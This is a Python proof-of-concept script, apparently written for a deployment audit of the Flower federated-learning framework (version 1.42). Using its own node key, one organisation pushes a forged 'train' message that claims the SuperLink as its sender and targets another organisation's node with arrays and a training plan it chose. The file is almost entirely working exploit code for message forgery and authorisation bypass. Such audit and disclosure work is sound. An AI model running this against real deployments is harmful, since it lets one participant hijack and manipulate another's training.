"""One organisation instructs another's node: with its own registered key, it pushes a ``train``
message that claims the SuperLink as its sender and names the victim's node id, for a running
run, with arrays and a plan it chose (the attack a second deployment audit found in Flower 1.42).

    python forge_instruction.py ADDRESS CA KEY ATTACKER_NODE VICTIM_NODE RUN_ID

prints one JSON line: what the SuperLink (or the gateway in front of it) answered.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import numpy as np
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import Array, ArrayRecord, ConfigRecord, RecordDict
from flwr.app.message.message import remove_content_from_message
from flwr.common.serde import message_from_proto, message_to_proto, recorddict_to_proto
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.proto.message_pb2 import Message as ProtoMessage
from flwr.proto.message_pb2 import Metadata as ProtoMetadata
from flwr.proto.message_pb2 import PushObjectRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor


def forged(run_id: int, victim: int):
    content = RecordDict(
        {
            "arrays": ArrayRecord({"ctx": Array(np.full((16, 64), 3.0, np.float32))}),
            "config": ConfigRecord({"server-round": 1, "reply-keys": "ctx", "plan.local-steps": 50}),
        }
    )
    # fresh, or the SuperLink drops it as expired (and still answers the push with success)
    md = ProtoMetadata(
        run_id=run_id, src_node_id=1, dst_node_id=victim, group_id="1", created_at=time.time(), ttl=600.0
    )
    md.message_type = "train"
    msg = message_from_proto(ProtoMessage(metadata=md, content=recorddict_to_proto(content)))
    msg.metadata.__dict__["_message_id"] = msg.object_id
    return msg


def main(address: str, ca: str, key: str, attacker: int, victim: int, run_id: int) -> dict:
    private = load_ssh_private_key(Path(key).read_bytes(), password=None)
    auth = NodeAuthHttpInterceptor(private, private.public_key())  # type: ignore[arg-type]
    client = FleetHttpClient.from_server_address(
        address, False, str(ca), interceptors=[RuntimeVersionHttpInterceptor(component_name="SuperNode"), auth]
    )
    msg, node = forged(run_id, victim), Node(node_id=attacker)
    try:
        res = client.PushMessages(
            PushMessagesRequest(
                node=node,
                messages_list=[message_to_proto(remove_content_from_message(msg))],
                message_object_trees=[get_object_tree(msg)],
            )
        )
    except Exception as err:  # noqa: BLE001 - what was answered is the result
        response = getattr(err, "response", None)
        return {
            "pushed": False,
            "status": getattr(response, "status_code", None),
            "text": getattr(response, "text", str(err)),
        }
    objects = get_all_nested_objects(msg)
    for object_id in res.objects_to_push:
        client.PushObject(
            PushObjectRequest(
                node=node,
                run_id=run_id,
                object_id=object_id,
                object_content=objects[object_id].deflate(),
                session_id=res.session_id,
            )
        )
    return {"pushed": True, "message_id": msg.metadata.message_id, "results": dict(res.results)}


if __name__ == "__main__":
    a = sys.argv[1:]
    print(json.dumps(main(a[0], a[1], a[2], int(a[3]), int(a[4]), int(a[5]))))
